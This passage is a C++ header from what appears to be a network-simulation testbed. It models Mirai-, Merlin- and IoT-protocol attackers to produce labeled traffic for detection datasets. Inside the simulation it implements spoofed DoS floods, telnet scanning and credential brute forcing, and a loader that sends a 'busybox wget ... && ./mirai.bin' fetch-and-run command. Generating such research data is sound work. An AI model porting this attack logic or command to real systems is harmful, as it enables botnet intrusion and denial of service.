#pragma once

// The three threat actors as behavior state machines driven by an attack
// schedule: the Maroni family (Mirai lifecycle: C&C, pseudorandom telnet
// scanning, brute forcing, reporting, loading, ten DoS flood types), the
// Falcone family (Merlin-style C&C with beaconing agents, ingress transfer,
// remote exec, hping3-style floods) and the Calabrese family (network scans
// plus MQTT and CoAP protocol attacks).
//
// Every attack frame carries hidden provenance, and every generator emits
// matching ground-truth label intervals keyed by 5-tuple patterns. Reserved
// source-port bands keep those patterns disjoint from benign traffic.

#include <gotham/devices.hpp>

namespace gotham::threats {

namespace proto = gotham::protocols;
using devices::DnsClient;
using devices::MqttClient;
using devices::MqttClientConfig;
using sim::Engine;
using sim::LabelInterval;
using sim::PortPattern;
using sim::TcpConn;
using sim::TcpConnPtr;
using sim::TuplePattern;

constexpr SimTime kIntervalPad = kMilli;  // closes intervals just past the last frame

// ---------------------------------------------------------------------------
// Attack schedule
// ---------------------------------------------------------------------------

struct AttackEntry {
    SimTime at = 0;
    std::string actor;   // maroni | falcone | calabrese
    std::string action;  // actor-specific repertoire
    std::string target;  // node id, name or address (action-specific)
    topology::ConfigMap params;

    bool operator==(const AttackEntry&) const = default;
};

struct AttackSchedule {
    std::vector<AttackEntry> entries;
    bool operator==(const AttackSchedule&) const = default;
};

inline const std::map<std::string, std::vector<std::string>>& actor_repertoire() {
    static const std::map<std::string, std::vector<std::string>> rep = {
        {"maroni", {"mirai-activate", "mirai-dos"}},
        {"falcone", {"merlin-install", "merlin-ingress", "merlin-exec", "merlin-dos"}},
        {"calabrese", {"scan", "mqtt-attack", "coap-amplification"}},
    };
    return rep;
}

inline std::vector<std::string> validate_schedule(const AttackSchedule& s) {
    std::vector<std::string> errors;
    SimTime last = -1;
    for (std::size_t i = 0; i < s.entries.size(); ++i) {
        const auto& e = s.entries[i];
        if (e.at < last)
            errors.push_back("entry " + std::to_string(i) + ": not sorted by time");
        last = e.at;
        auto it = actor_repertoire().find(e.actor);
        if (it == actor_repertoire().end()) {
            errors.push_back("entry " + std::to_string(i) + ": unknown actor '" + e.actor + "'");
            continue;
        }
        bool known = false;
        for (const auto& a : it->second) known |= a == e.action;
        if (!known)
            errors.push_back("entry " + std::to_string(i) + ": action '" + e.action +
                             "' not in " + e.actor + "'s repertoire");
    }
    return errors;
}

// Mirai flood repertoire; Merlin implements the hping3 subset.
inline const std::vector<std::string>& mirai_dos_kinds() {
    static const std::vector<std::string> kinds = {
        "udp-generic", "udp-plain", "valve-source", "dns-flood", "tcp-syn",
        "tcp-ack",     "tcp-stomp", "gre-ip",       "gre-eth",   "http-flood"};
    return kinds;
}
inline const std::vector<std::string>& merlin_dos_kinds() {
    static const std::vector<std::string> kinds = {"icmp-echo", "udp-random-port", "tcp-syn",
                                                   "tcp-ack"};
    return kinds;
}

struct DosAttackSpec {
    std::string kind;
    Ipv4 target;
    std::uint16_t dport = 80;
    double rate_pps = 100;
    double duration_s = 10;
    bool spoof_source = false;
};

// ---------------------------------------------------------------------------
// Interval helpers
// ---------------------------------------------------------------------------

inline void emit_flow_intervals(Engine& eng, SimTime t0, SimTime t1, std::optional<Ipv4> src,
                                PortPattern sport, std::optional<Ipv4> dst, PortPattern dport,
                                std::optional<std::uint8_t> tcp_proto, const std::string& label,
                                const std::string& actor) {
    LabelInterval fwd;
    fwd.t_start = t0;
    fwd.t_end = t1;
    fwd.match = {src, dst, sport, dport, tcp_proto};
    fwd.label = label;
    fwd.actor = actor;
    eng.add_interval(fwd);
    LabelInterval rev;
    rev.t_start = t0;
    rev.t_end = t1;
    rev.match = {dst, src, dport, sport, tcp_proto};
    rev.label = label;
    rev.actor = actor;
    eng.add_interval(rev);
}

// ---------------------------------------------------------------------------
// Flood generator shared by Mirai bots and Merlin agents
// ---------------------------------------------------------------------------

class FloodGenerator {
public:
    // Runs the flood; emits the matching ground-truth interval immediately
    // (its bounds are known up front).
    static void run(Engine& eng, std::size_t node, const DosAttackSpec& spec,
                    const std::string& label, const std::string& actor, Rng rng) {
        SimTime t0 = eng.now();
        SimTime t1 = t0 + static_cast<SimTime>(spec.duration_s * kSecond) + kIntervalPad;
        Ipv4 self = eng.node_addr(node);
        std::optional<std::uint8_t> proto;
        PortPattern sport = PortPattern::band(sim::kBandFlood);
        PortPattern dport = PortPattern::exact(spec.dport);
        std::optional<Ipv4> src = spec.spoof_source ? std::nullopt : std::optional<Ipv4>(self);
        if (spec.kind == "icmp-echo") {
            proto = wire::kProtoIcmp;
            sport = {};
            dport = {};
        } else if (spec.kind == "gre-ip" || spec.kind == "gre-eth") {
            proto = wire::kProtoGre;
            sport = {};
            dport = {};
        } else if (spec.kind == "udp-generic" || spec.kind == "udp-plain" ||
                   spec.kind == "valve-source" || spec.kind == "dns-flood" ||
                   spec.kind == "udp-random-port") {
            proto = wire::kProtoUdp;
            if (spec.kind == "udp-random-port") dport = {};  // randomized
        } else {
            proto = wire::kProtoTcp;
        }
        if (spec.kind == "valve-source") dport = PortPattern::exact(27015);
        if (spec.kind == "dns-flood") dport = PortPattern::exact(proto::kPortDns);
        if (spec.kind == "http-flood") dport = PortPattern::exact(proto::kPortHttp);
        emit_flow_intervals(eng, t0, t1, src, sport, eng_target(spec), dport, proto, label, actor);

        auto state = std::make_shared<FloodState>();
        state->rng = std::move(rng);
        state->spec = spec;
        state->label = label;
        state->prov = eng.prov_id(label, actor);
        state->end_at = t0 + static_cast<SimTime>(spec.duration_s * kSecond);
        state->interval_us = std::max<SimTime>(1, static_cast<SimTime>(1e6 / spec.rate_pps));
        tick(eng, node, state);
    }

private:
    struct FloodState {
        Rng rng;
        DosAttackSpec spec;
        std::string label;
        std::uint32_t prov = 0;
        SimTime end_at = 0;
        SimTime interval_us = 0;
        std::uint64_t sent = 0;
    };

    static std::optional<Ipv4> eng_target(const DosAttackSpec& spec) { return spec.target; }

    static void tick(Engine& eng, std::size_t node, std::shared_ptr<FloodState> st) {
        if (eng.now() > st->end_at) return;
        emit_one(eng, node, *st);
        ++st->sent;
        SimTime next = eng.now() + st->interval_us;
        if (next > st->end_at) return;
        eng.schedule_at(next, [&eng, node, st] { tick(eng, node, st); });
    }

    static Ipv4 spoofed_source(Engine& eng, FloodState& st) {
        // random host inside the testbed's public range
        const auto& range = eng.topo().public_range;
        std::uint32_t host_bits = 32 - range.len;
        std::uint32_t host = st.rng.u32() & ((1u << host_bits) - 1);
        return Ipv4((range.base.v & range.mask()) | host);
    }

    static void emit_one(Engine& eng, std::size_t node, FloodState& st) {
        const auto& spec = st.spec;
        Ipv4 src = spec.spoof_source ? spoofed_source(eng, st) : eng.node_addr(node);
        std::uint16_t sport = static_cast<std::uint16_t>(
            sim::kBandFlood.lo + st.rng.below(sim::kBandFlood.hi - sim::kBandFlood.lo));
        if (spec.kind == "udp-generic") {
            Bytes payload(512);
            st.rng.fill(payload.data(), payload.size());
            eng.send_udp_spoofed(node, src, sport, spec.target, spec.dport, payload, st.prov);
        } else if (spec.kind == "udp-plain") {
            Bytes payload(64, 0);
            eng.send_udp_spoofed(node, src, sport, spec.target, spec.dport, payload, st.prov);
        } else if (spec.kind == "udp-random-port") {
            Bytes payload(512);
            st.rng.fill(payload.data(), payload.size());
            std::uint16_t dport = static_cast<std::uint16_t>(1 + st.rng.below(65535));
            eng.send_udp_spoofed(node, src, sport, spec.target, dport, payload, st.prov);
        } else if (spec.kind == "valve-source") {
            static const char q[] = "\xff\xff\xff\xffTSource Engine Query";
            Bytes payload(q, q + sizeof(q));  // includes the trailing NUL
            eng.send_udp_spoofed(node, src, sport, spec.target, 27015, payload, st.prov);
        } else if (spec.kind == "dns-flood") {
            proto::DnsMsg q;
            q.id = static_cast<std::uint16_t>(st.rng.u32());
            std::string sub;
            for (int i = 0; i < 12; ++i) sub.push_back('a' + st.rng.below(26));
            q.qname = sub + ".gotham";
            eng.send_udp_spoofed(node, src, sport, spec.target, proto::kPortDns, proto::encode(q),
                                 st.prov);
        } else if (spec.kind == "tcp-syn") {
            wire::TcpSpec t;
            t.sport = sport;
            t.dport = spec.dport;
            t.seq = st.rng.u32();
            t.flags = wire::kSyn;
            eng.send_raw_tcp(node, src, spec.target, t, {}, st.prov);
        } else if (spec.kind == "tcp-ack") {
            wire::TcpSpec t;
            t.sport = sport;
            t.dport = spec.dport;
            t.seq = st.rng.u32();
            t.ack = st.rng.u32();
            t.flags = wire::kAck;
            eng.send_raw_tcp(node, src, spec.target, t, {}, st.prov);
        } else if (spec.kind == "tcp-stomp") {
            wire::TcpSpec t;
            t.sport = sport;
            t.dport = spec.dport;
            t.seq = st.rng.u32();
            t.ack = st.rng.u32();
            t.flags = wire::kAck | wire::kPsh;
            Bytes payload(768);
            st.rng.fill(payload.data(), payload.size());
            eng.send_raw_tcp(node, src, spec.target, t, payload, st.prov);
        } else if (spec.kind == "gre-ip") {
            Bytes inner;
            wire::ipv4_header(inner, src, spec.target, wire::kProtoUdp, 8 + 512, 64,
                              static_cast<std::uint16_t>(st.rng.u32()));
            ByteWriter w(inner);
            w.u16(sport);
            w.u16(spec.dport);
            w.u16(8 + 512);
            w.u16(0);
            Bytes payload(512);
            st.rng.fill(payload.data(), payload.size());
            w.raw(payload);
            eng.send_gre(node, src, spec.target, wire::kEtherIpv4, inner, st.prov);
        } else if (spec.kind == "gre-eth") {
            Bytes inner;
            ByteWriter w(inner);
            wire::eth_header(w, Mac::local(0xbeef), Mac::local(0xfeed), wire::kEtherIpv4);
            wire::ipv4_header(inner, src, spec.target, wire::kProtoUdp, 8 + 512, 64,
                              static_cast<std::uint16_t>(st.rng.u32()));
            w.u16(sport);
            w.u16(spec.dport);
            w.u16(8 + 512);
            w.u16(0);
            Bytes payload(512);
            st.rng.fill(payload.data(), payload.size());
            w.raw(payload);
            eng.send_gre(node, src, spec.target, 0x6558, inner, st.prov);  // transparent bridging
        } else if (spec.kind == "http-flood") {
            wire::TcpSpec t;
            t.sport = sport;
            t.dport = spec.dport;
            t.seq = st.rng.u32();
            t.ack = st.rng.u32();
            t.flags = wire::kAck | wire::kPsh;
            std::string req = "GET / HTTP/1.1\r\nHost: " + spec.target.str() +
                              "\r\nUser-Agent: Mozilla/5.0\r\nConnection: keep-alive\r\n\r\n";
            eng.send_raw_tcp(node, src, spec.target, t, to_bytes(req), st.prov);
        } else if (spec.kind == "icmp-echo") {
            eng.send_icmp_echo_raw(node, src, spec.target,
                                   static_cast<std::uint16_t>(st.rng.u32() & 0x7fff),
                                   static_cast<std::uint16_t>(st.sent), 56, st.prov);
        }
    }
};

// ---------------------------------------------------------------------------
// Line-based telnet framing helper
// ---------------------------------------------------------------------------

class LineBuffer {
public:
    std::vector<std::string> feed(const Bytes& b) {
        buf_.append(b.begin(), b.end());
        std::vector<std::string> lines;
        std::size_t pos;
        while ((pos = buf_.find('\n')) != std::string::npos) {
            std::string line = buf_.substr(0, pos);
            if (!line.empty() && line.back() == '\r') line.pop_back();
            lines.push_back(line);
            buf_.erase(0, pos + 1);
        }
        return lines;
    }
    const std::string& partial() const { return buf_; }
    void clear() { buf_.clear(); }

private:
    std::string buf_;
};

// ---------------------------------------------------------------------------
// Mirai: bot runtime (seed bot node and infected victims share this)
// ---------------------------------------------------------------------------

struct MiraiEndpoints {
    Ipv4 cnc, listener, loader, download;
    std::string cnc_name = "mirai-cnc-1.gotham";
};

inline std::optional<MiraiEndpoints> mirai_endpoints(const Engine& eng) {
    MiraiEndpoints ep;
    auto cnc = devices::find_node_by_template(eng, "mirai-cnc");
    auto listener = devices::find_node_by_template(eng, "mirai-scan-listener");
    auto loader = devices::find_node_by_template(eng, "mirai-loader");
    auto download = devices::find_node_by_template(eng, "mirai-download-server");
    if (!cnc || !listener || !loader || !download) return std::nullopt;
    ep.cnc = eng.node_addr(*cnc);
    ep.listener = eng.node_addr(*listener);
    ep.loader = eng.node_addr(*loader);
    ep.download = eng.node_addr(*download);
    return ep;
}

constexpr std::uint16_t kPortScanListener = 48101;
constexpr std::uint16_t kPortLoaderFeed = 48102;
constexpr SimTime kMiraiKeepalive = 30 * kSecond;
constexpr SimTime kMiraiReconnect = 10 * kSecond;

enum class MiraiPhase { Dormant, Resolving, CncConnecting, Scanning };

class MiraiBotRuntime {
public:
    void init(Engine& eng, std::size_t node) {
        eng_ = &eng;
        node_ = node;
        const auto& inst = eng.node_def(node);
        rng_ = eng.rng_stream("mirai:" + inst.node_id);
        scan_rate_pps_ = inst.cfg_double("scan_rate_pps", 20);
        scan_alt_ratio_ = static_cast<std::uint32_t>(inst.cfg_int("scan_alt_ratio", 10));
        if (scan_alt_ratio_ == 0) scan_alt_ratio_ = 10;
        keepalive_ = static_cast<SimTime>(inst.cfg_double("keepalive_s", 30) * kSecond);
        if (keepalive_ <= 0) keepalive_ = kMiraiKeepalive;
        // full-cycle LCG permutation over the 2^16 host space
        lcg_a_ = 4 * (rng_.below(16000) + 1) + 1;
        lcg_c_ = 2 * rng_.below(32000) + 1;
        lcg_x_ = rng_.below(65536);
        dns_.init(eng, node);
        dns_.set_sport_band(sim::kBandMiraiCnc);
    }

    bool active() const { return phase_ != MiraiPhase::Dormant; }

    // Infection entry point: resolve the C&C through the lab DNS, connect,
    // then start scanning.
    void activate() {
        if (active()) return;
        auto ep = mirai_endpoints(*eng_);
        if (!ep) return;
        ep_ = *ep;
        prov_cnc_ = eng_->prov_id("mirai-cnc", "maroni");
        prov_scan_ = eng_->prov_id("mirai-scan", "maroni");
        prov_brute_ = eng_->prov_id("mirai-bruteforce", "maroni");
        prov_report_ = eng_->prov_id("mirai-report", "maroni");
        dns_.set_provenance(prov_cnc_);
        phase_ = MiraiPhase::Resolving;
        Ipv4 self = eng_->node_addr(node_);
        SimTime t1 = kEndOfRun;
        // C&C flows (incl. the bot's resolver traffic) and scan/brute/report
        // flows, from activation to end of run
        emit_flow_intervals(*eng_, eng_->now(), t1, self, PortPattern::band(sim::kBandMiraiCnc),
                            std::nullopt, {}, std::nullopt, "mirai-cnc", "maroni");
        emit_flow_intervals(*eng_, eng_->now(), t1, self, PortPattern::band(sim::kBandMiraiScan),
                            std::nullopt, {}, wire::kProtoTcp, "mirai-scan", "maroni");
        emit_flow_intervals(*eng_, eng_->now(), t1, self, PortPattern::band(sim::kBandMiraiBrute),
                            ep_.listener, PortPattern::exact(kPortScanListener), wire::kProtoTcp,
                            "mirai-report", "maroni");
        emit_flow_intervals(*eng_, eng_->now(), t1, self,
                            PortPattern::band(sim::kBandMiraiBrute), std::nullopt,
                            PortPattern::exact(proto::kPortTelnet), wire::kProtoTcp,
                            "mirai-bruteforce", "maroni");
        eng_->log(node_, "mirai-activated", "");
        resolve_cnc();
    }

    // CNC pushes an attack command over the established channel.
    void handle_command(const std::string& line) {
        auto parts = split(line, ' ');
        if (parts.size() < 6 || parts[0] != "attack") return;
        DosAttackSpec spec;
        spec.kind = parts[1];
        auto addr = Ipv4::parse(parts[2]);
        if (!addr) return;
        spec.target = *addr;
        spec.dport = static_cast<std::uint16_t>(std::atoi(parts[3].c_str()));
        spec.rate_pps = std::atof(parts[4].c_str());
        spec.duration_s = std::atof(parts[5].c_str());
        spec.spoof_source = parts.size() > 6 && parts[6] == "spoof";
        bool known = false;
        for (const auto& k : mirai_dos_kinds()) known |= k == spec.kind;
        if (!known) return;
        eng_->log(node_, "mirai-dos", spec.kind + " " + spec.target.str());
        FloodGenerator::run(*eng_, node_, spec, "mirai-dos-" + spec.kind, "maroni",
                            rng_.fork("dos" + std::to_string(dos_count_++)));
    }

private:
    static constexpr SimTime kEndOfRun = std::numeric_limits<SimTime>::max() / 4;

    void resolve_cnc() {
        dns_.resolve(ep_.cnc_name, [this](std::optional<Ipv4> addr) {
            connect_cnc(addr.value_or(ep_.cnc));
        });
    }

    void connect_cnc(Ipv4 cnc) {
        phase_ = MiraiPhase::CncConnecting;
        cnc_conn_ = eng_->open_tcp(node_, cnc, proto::kPortMiraiCnc, prov_cnc_,
                                   eng_->alloc_port(node_, sim::kBandMiraiCnc));
        if (!cnc_conn_) {
            eng_->schedule_in(kMiraiReconnect, [this] { resolve_cnc(); });
            return;
        }
        std::uint64_t uid = cnc_conn_->uid;
        cnc_conn_->on_connected = [this, uid](TcpConn& c) {
            if (!cnc_conn_ || cnc_conn_->uid != uid) return;
            // bot hello: 4 zero bytes, then periodic 2-byte keepalives
            eng_->tcp_send(c, Bytes{0, 0, 0, 0});
            eng_->log(node_, "cnc-connected", c.peer_ip.str());
            arm_keepalive(++cnc_epoch_);
            if (phase_ != MiraiPhase::Scanning) start_scanning();
        };
        cnc_conn_->on_data = [this, uid](TcpConn&, const Bytes& b) {
            if (!cnc_conn_ || cnc_conn_->uid != uid) return;
            for (const auto& line : cnc_lines_.feed(b)) handle_command(line);
        };
        cnc_conn_->on_failed = [this, uid](TcpConn&, const std::string&) {
            if (!cnc_conn_ || cnc_conn_->uid != uid) return;
            cnc_conn_.reset();
            eng_->schedule_in(kMiraiReconnect, [this] { resolve_cnc(); });
        };
        cnc_conn_->on_peer_closed = [this, uid](TcpConn&) {
            if (!cnc_conn_ || cnc_conn_->uid != uid) return;
            cnc_conn_.reset();
            eng_->schedule_in(kMiraiReconnect, [this] { resolve_cnc(); });
        };
    }

    void arm_keepalive(std::uint64_t epoch) {
        eng_->schedule_in(keepalive_, [this, epoch] {
            if (epoch != cnc_epoch_) return;
            if (!cnc_conn_ || !cnc_conn_->established()) return;
            eng_->tcp_send(*cnc_conn_, Bytes{0, 0});
            arm_keepalive(epoch);
        });
    }

    // ---- scanning
    void start_scanning() {
        phase_ = MiraiPhase::Scanning;
        eng_->set_tcp_observer(node_, [this](Ipv4 src, const wire::TcpView& t) {
            return observe(src, t);
        });
        SimTime gap = static_cast<SimTime>(1e6 / scan_rate_pps_);
        eng_->schedule_in(gap, [this, gap] { scan_tick(gap); });
    }

    void scan_tick(SimTime gap) {
        if (phase_ != MiraiPhase::Scanning) return;
        next_probe();
        eng_->schedule_in(gap, [this, gap] { scan_tick(gap); });
    }

    bool excluded(Ipv4 a) const {
        return a == eng_->node_addr(node_) || a == ep_.cnc;
    }

    void next_probe() {
        // next host from the per-bot LCG permutation; skip exclusions
        for (int guard = 0; guard < 8; ++guard) {
            lcg_x_ = (lcg_a_ * lcg_x_ + lcg_c_) & 0xffff;
            const auto& range = eng_->topo().public_range;
            Ipv4 target((range.base.v & range.mask()) | lcg_x_);
            if (excluded(target)) continue;
            // one probe in scan_alt_ratio goes to 2323, the rest to 23
            std::uint16_t port =
                rng_.below(scan_alt_ratio_) == 0 ? proto::kPortTelnetAlt : proto::kPortTelnet;
            wire::TcpSpec t;
            t.sport = eng_->alloc_port(node_, sim::kBandMiraiScan);
            t.dport = port;
            t.seq = target.v;  // the Mirai scanner quirk: seq == dst address
            t.flags = wire::kSyn;
            eng_->send_raw_tcp(node_, eng_->node_addr(node_), target, t, {}, prov_scan_);
            ++probes_;
            return;
        }
    }

    bool observe(Ipv4 src, const wire::TcpView& t) {
        if (!sim::kBandMiraiScan.contains(t.dst_port)) return false;
        if ((t.flags & (wire::kSyn | wire::kAck)) == (wire::kSyn | wire::kAck)) {
            // tear down the half-open victim side, then go brute force it
            wire::TcpSpec rst;
            rst.sport = t.dst_port;
            rst.dport = t.src_port;
            rst.seq = t.ack;
            rst.flags = wire::kRst;
            eng_->send_raw_tcp(node_, eng_->node_addr(node_), src, rst, {}, prov_scan_);
            if (!pending_brute_.count(src.v)) {
                pending_brute_.insert(src.v);
                eng_->schedule_in(50 * kMilli, [this, src, port = t.src_port] {
                    brute_force(src, port);
                });
            }
            return true;
        }
        return true;  // RSTs from closed ports end here
    }

    // ---- brute forcing
    void brute_force(Ipv4 victim, std::uint16_t port) {
        auto conn = eng_->open_tcp(node_, victim, port, prov_brute_,
                                   eng_->alloc_port(node_, sim::kBandMiraiBrute));
        pending_brute_.erase(victim.v);
        if (!conn) return;
        auto st = std::make_shared<BruteState>();
        st->victim = victim;
        st->port = port;
        st->order.resize(topology::mirai_credential_list().size());
        for (std::size_t i = 0; i < st->order.size(); ++i) st->order[i] = i;
        for (std::size_t i = st->order.size(); i > 1; --i)
            std::swap(st->order[i - 1], st->order[rng_.below(static_cast<std::uint32_t>(i))]);
        conn->on_data = [this, st](TcpConn& c, const Bytes& b) { brute_input(c, *st, b); };
        conn->on_failed = [](TcpConn&, const std::string&) {};
        conn->on_peer_closed = [this](TcpConn& c) { eng_->tcp_close(c); };
    }

    struct BruteState {
        Ipv4 victim;
        std::uint16_t port = 0;
        std::vector<std::size_t> order;
        std::size_t attempt = 0;
        LineBuffer lines;
        bool done = false;
    };

    void brute_input(TcpConn& c, BruteState& st, const Bytes& b) {
        if (st.done) return;
        const auto& creds = topology::mirai_credential_list();
        std::string text(b.begin(), b.end());
        if (text.find("login:") != std::string::npos) {
            if (st.attempt >= st.order.size()) {
                st.done = true;
                eng_->tcp_close(c);
                return;
            }
            eng_->tcp_send(c, to_bytes(creds[st.order[st.attempt]].first + "\r\n"));
        } else if (text.find("Password:") != std::string::npos) {
            eng_->tcp_send(c, to_bytes(creds[st.order[st.attempt]].second + "\r\n"));
            ++st.attempt;
        } else if (text.find("# ") != std::string::npos) {
            st.done = true;
            const auto& cred = creds[st.order[st.attempt - 1]];
            eng_->log(node_, "brute-success",
                      st.victim.str() + ":" + std::to_string(st.port) + " " + cred.first + ":" +
                          cred.second);
            eng_->tcp_close(c);
            report(st.victim, st.port, cred.first, cred.second);
        }
        // "Login incorrect" falls through: the victim re-prompts login
    }

    // ---- reporting
    void report(Ipv4 victim, std::uint16_t port, const std::string& user,
                const std::string& pass) {
        auto conn = eng_->open_tcp(node_, ep_.listener, kPortScanListener, prov_report_,
                                   eng_->alloc_port(node_, sim::kBandMiraiBrute));
        if (!conn) return;
        std::string line = victim.str() + " " + std::to_string(port) + " " + user + " " + pass +
                           "\n";
        conn->on_connected = [this, line](TcpConn& c) {
            eng_->tcp_send(c, to_bytes(line));
            eng_->tcp_close(c);
        };
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    MiraiPhase phase_ = MiraiPhase::Dormant;
    MiraiEndpoints ep_;
    Rng rng_;
    DnsClient dns_;
    double scan_rate_pps_ = 20;
    std::uint32_t scan_alt_ratio_ = 10;
    SimTime keepalive_ = kMiraiKeepalive;
    std::uint32_t lcg_a_ = 5, lcg_c_ = 1, lcg_x_ = 0;
    TcpConnPtr cnc_conn_;
    LineBuffer cnc_lines_;
    std::uint64_t cnc_epoch_ = 0;
    std::uint32_t prov_cnc_ = 0, prov_scan_ = 0, prov_brute_ = 0, prov_report_ = 0;
    std::set<std::uint32_t> pending_brute_;
    std::uint64_t probes_ = 0;
    int dos_count_ = 0;

public:
    std::uint64_t probes() const { return probes_; }
    MiraiPhase phase() const { return phase_; }
};

// Standalone behavior for the dedicated Mirai bot node (cloud seed).
class MiraiBotBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        runtime_.init(eng, node);
        // activation comes from the schedule (mirai-activate)
    }
    MiraiBotRuntime& runtime() { return runtime_; }

private:
    MiraiBotRuntime runtime_;
};

// ---------------------------------------------------------------------------
// Mirai C&C
// ---------------------------------------------------------------------------

class MiraiCncBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        eng.tcp_listen(node, proto::kPortMiraiCnc, [this](TcpConn& c) { accept(c); });
        eng.log(node, "cnc-up", "");
    }

    // Instructs every connected bot to launch the flood.
    void command_attack(const DosAttackSpec& spec) {
        std::string line = "attack " + spec.kind + " " + spec.target.str() + " " +
                           std::to_string(spec.dport) + " " + std::to_string(spec.rate_pps) +
                           " " + std::to_string(spec.duration_s) +
                           (spec.spoof_source ? " spoof" : "") + "\n";
        eng_->log(node_, "cnc-command", line.substr(0, line.size() - 1) + " bots=" +
                                            std::to_string(bots_.size()));
        for (auto& conn : bots_)
            if (conn && conn->established()) eng_->tcp_send(*conn, to_bytes(line));
    }

    std::size_t bot_count() const {
        std::size_t n = 0;
        for (const auto& c : bots_)
            if (c && c->established()) ++n;
        return n;
    }

private:
    void accept(TcpConn& c) {
        auto ref = eng_->conn_ref(c);
        bots_.push_back(ref);
        eng_->log(node_, "bot-connected", c.peer_ip.str());
        c.on_data = [this](TcpConn& conn, const Bytes& b) {
            // keepalive echo: 2-byte ping -> 2-byte pong
            if (b.size() == 2) eng_->tcp_send(conn, Bytes{0, 0});
        };
        c.on_failed = [this](TcpConn& conn, const std::string&) { drop(conn.uid); };
        c.on_peer_closed = [this](TcpConn& conn) { drop(conn.uid); };
    }
    void drop(std::uint64_t uid) {
        for (auto it = bots_.begin(); it != bots_.end(); ++it) {
            if (*it && (*it)->uid == uid) {
                bots_.erase(it);
                return;
            }
        }
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::vector<TcpConnPtr> bots_;
};

// ---------------------------------------------------------------------------
// Mirai scan listener: receives victim reports, relays them to the loader.
// ---------------------------------------------------------------------------

class MiraiScanListenerBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        prov_ = eng.prov_id("mirai-report", "maroni");
        auto loader = devices::find_node_by_template(eng, "mirai-loader");
        if (loader) loader_ = eng.node_addr(*loader);
        emit_flow_intervals(eng, 0, std::numeric_limits<SimTime>::max() / 4,
                            eng.node_addr(node), PortPattern::band(sim::kBandMiraiBrute),
                            loader_, PortPattern::exact(kPortLoaderFeed), wire::kProtoTcp,
                            "mirai-report", "maroni");
        eng.tcp_listen(node, kPortScanListener, [this](TcpConn& c) { accept(c); });
        eng.log(node, "listener-up", "");
    }

    std::uint64_t reports() const { return reports_; }

private:
    void accept(TcpConn& c) {
        auto lines = std::make_shared<LineBuffer>();
        c.on_data = [this, lines](TcpConn&, const Bytes& b) {
            for (const auto& line : lines->feed(b)) handle_report(line);
        };
    }
    void handle_report(const std::string& line) {
        auto parts = split(line, ' ');
        if (parts.size() != 4) return;
        ++reports_;
        eng_->log(node_, "report",
                  "ip=" + parts[0] + " port=" + parts[1] + " user=" + parts[2] +
                      " pass=" + parts[3]);
        if (!loader_) return;
        auto conn = eng_->open_tcp(node_, *loader_, kPortLoaderFeed, prov_,
                                   eng_->alloc_port(node_, sim::kBandMiraiBrute));
        if (!conn) return;
        std::string fwd = line + "\n";
        conn->on_connected = [this, fwd](TcpConn& c) {
            eng_->tcp_send(c, to_bytes(fwd));
            eng_->tcp_close(c);
        };
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::optional<Ipv4> loader_;
    std::uint32_t prov_ = 0;
    std::uint64_t reports_ = 0;
};

// ---------------------------------------------------------------------------
// Mirai loader: telnets into reported victims and triggers the download.
// ---------------------------------------------------------------------------

class MiraiLoaderBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        prov_ = eng.prov_id("mirai-ingress", "maroni");
        auto dl = devices::find_node_by_template(eng, "mirai-download-server");
        if (dl) download_ = eng.node_addr(*dl);
        eng.tcp_listen(node, kPortLoaderFeed, [this](TcpConn& c) { accept(c); });
        emit_flow_intervals(eng, 0, std::numeric_limits<SimTime>::max() / 4, eng.node_addr(node),
                            PortPattern::band(sim::kBandMiraiIngress), std::nullopt,
                            PortPattern::exact(proto::kPortTelnet), wire::kProtoTcp,
                            "mirai-ingress", "maroni");
        eng.log(node, "loader-up", "");
    }

    std::uint64_t loads() const { return loaded_.size(); }

private:
    void accept(TcpConn& c) {
        auto lines = std::make_shared<LineBuffer>();
        c.on_data = [this, lines](TcpConn&, const Bytes& b) {
            for (const auto& line : lines->feed(b)) handle_report(line);
        };
    }

    void handle_report(const std::string& line) {
        auto parts = split(line, ' ');
        if (parts.size() != 4) return;
        auto victim = Ipv4::parse(parts[0]);
        if (!victim) return;
        if (loaded_.count(victim->v)) {
            eng_->log(node_, "duplicate-report", parts[0]);
            return;
        }
        loaded_.insert(victim->v);
        login(*victim, static_cast<std::uint16_t>(std::atoi(parts[1].c_str())), parts[2],
              parts[3]);
    }

    void login(Ipv4 victim, std::uint16_t port, const std::string& user,
               const std::string& pass) {
        auto conn = eng_->open_tcp(node_, victim, port, prov_,
                                   eng_->alloc_port(node_, sim::kBandMiraiIngress));
        if (!conn) return;
        auto stage = std::make_shared<int>(0);
        std::string download_host = download_ ? download_->str() : "";
        conn->on_data = [this, stage, user, pass, download_host, victim](TcpConn& c,
                                                                         const Bytes& b) {
            std::string text(b.begin(), b.end());
            if (text.find("login:") != std::string::npos && *stage == 0) {
                eng_->tcp_send(c, to_bytes(user + "\r\n"));
                *stage = 1;
            } else if (text.find("Password:") != std::string::npos && *stage == 1) {
                eng_->tcp_send(c, to_bytes(pass + "\r\n"));
                *stage = 2;
            } else if (text.find("# ") != std::string::npos && *stage == 2) {
                *stage = 3;
                eng_->tcp_send(c, to_bytes("busybox wget http://" + download_host +
                                           "/mirai.bin && ./mirai.bin\r\n"));
                eng_->log(node_, "load", victim.str());
                eng_->tcp_close(c);
            } else if (text.find("incorrect") != std::string::npos) {
                eng_->log(node_, "load-failed", victim.str() + " credentials changed");
                eng_->tcp_close(c);
            }
        };
        conn->on_failed = [this, victim](TcpConn&, const std::string& why) {
            eng_->log(node_, "load-failed", victim.str() + " " + why);
        };
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::optional<Ipv4> download_;
    std::uint32_t prov_ = 0;
    std::set<std::uint32_t> loaded_;
};

// ---------------------------------------------------------------------------
// Mirai download server: one-shot HTTP file service (~60 KB bot binary).
// ---------------------------------------------------------------------------

class HttpFileServerBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        file_bytes_ = static_cast<std::size_t>(eng.node_def(node).cfg_int("file_bytes", 61440));
